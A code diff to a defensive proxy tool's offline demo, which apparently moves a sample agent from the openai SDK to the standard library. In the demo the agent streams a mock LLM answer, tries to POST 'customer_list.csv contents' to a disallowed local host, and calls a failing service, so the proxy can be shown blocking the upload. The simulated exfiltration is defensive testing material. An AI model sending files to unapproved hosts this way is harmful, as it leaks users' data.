@@ -1,22 +1,23 @@
 """`failcore sample`: the whole product offline in one command.
 
 A local HTTPS stand-in plays the LLM provider, failcore's proxy runs in enforce mode with a tiny
-policy, and a small agent built on the real `openai` SDK (1) streams an answer over SSE, (2) tries
-to send a file to a host the policy does not allow, (3) hits a failing upstream. Then the run's
-summary and events are printed from the tape, the way a user would inspect a real run.
+policy, and a small agent speaking the OpenAI chat API over the standard library's HTTP client (so the
+sample needs nothing beyond failcore's own dependencies) (1) streams an answer over SSE, (2) tries to
+send a file to a host the policy does not allow, (3) hits a failing upstream. Then the run's summary
+and events are printed from the tape, the way a user would inspect a real run.
 """
 
 from __future__ import annotations
 
 import asyncio
+import json
 import shutil
 import ssl
 import tempfile
+import urllib.error
+import urllib.request
 from pathlib import Path
 from typing import Any
-
-import httpx
-import openai
 
 from failcore.paths import failcore_home
 from failcore.runner import EmbeddedProxy, ProxySettings
@@ -32,26 +33,42 @@ def sample_tape_dir() -> Path:
 def run_agent(proxy_url: str, ca_cert: Path, llm_base: str, exfil_url: str, broken_url: str) -> list[str]:
     """A minimal agent: one streamed LLM call, one exfiltration attempt, one call to a broken service."""
     trust = ssl.create_default_context(cafile=str(ca_cert))
+    opener = urllib.request.build_opener(
+        urllib.request.ProxyHandler({"http": proxy_url, "https": proxy_url}),
+        urllib.request.HTTPSHandler(context=trust),
+    )
     log: list[str] = []
-    with httpx.Client(proxy=proxy_url, verify=trust, timeout=30) as http:
-        llm = openai.OpenAI(
-            base_url=llm_base, api_key="sk-sample-not-a-real-key", http_client=http, max_retries=0
-        )
-        stream = llm.chat.completions.create(
-            model="gpt-4o-mini",
-            messages=[{"role": "user", "content": "Summarise the quarterly report"}],
-            stream=True,
-            stream_options={"include_usage": True},
-        )
-        text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
-        log.append(f"1. LLM answered over SSE: {text!r}")
-        try:
-            http.post(exfil_url, content=b"customer_list.csv contents")
-            log.append("2. exfiltration attempt went through (it should not have!)")
-        except httpx.ProxyError as e:
-            log.append(f"2. exfiltration attempt refused by failcore: {e}")
-        resp = http.get(broken_url)
-        log.append(f"3. flaky upstream answered {resp.status_code}")
+    chat = {
+        "model": "gpt-4o-mini",
+        "messages": [{"role": "user", "content": "Summarise the quarterly report"}],
+        "stream": True,
+        "stream_options": {"include_usage": True},
+    }
+    request = urllib.request.Request(
+        f"{llm_base}/chat/completions",
+        data=json.dumps(chat).encode(),
+        headers={"Authorization": "Bearer sk-sample-not-a-real-key", "Content-Type": "application/json"},
+    )
+    words: list[str] = []
+    with opener.open(request, timeout=30) as stream:
+        for raw in stream:
+            line = raw.decode().strip()
+            if not line.startswith("data: ") or line == "data: [DONE]":
+                continue
+            for choice in json.loads(line[len("data: ") :]).get("choices", []):
+                words.append(choice.get("delta", {}).get("content") or "")
+    log.append(f"1. LLM answered over SSE: {''.join(words)!r}")
+    try:
+        opener.open(urllib.request.Request(exfil_url, data=b"customer_list.csv contents"), timeout=30)
+        log.append("2. exfiltration attempt went through (it should not have!)")
+    except urllib.error.URLError as e:
+        log.append(f"2. exfiltration attempt refused by failcore: {e.reason}")
+    try:
+        with opener.open(broken_url, timeout=30) as resp:
+            status = resp.status
+    except urllib.error.HTTPError as e:
+        status = e.code
+    log.append(f"3. flaky upstream answered {status}")
     return log
 
 
@@ -109,7 +126,7 @@ async def run_sample(*, json_output: bool = False, tape: Path | None = None) -> 
         f"failcore show --tape {tape} --last --event 3",
         f"failcore verify {tape}",
         "failcore run -- python your_agent.py",
-        "mitmdump -s addons/failcore_addon.py",
+        'mitmdump -s "$(failcore addon-path)"',
     ):
         console.print(f"  {cmd}", markup=False)
     return 0
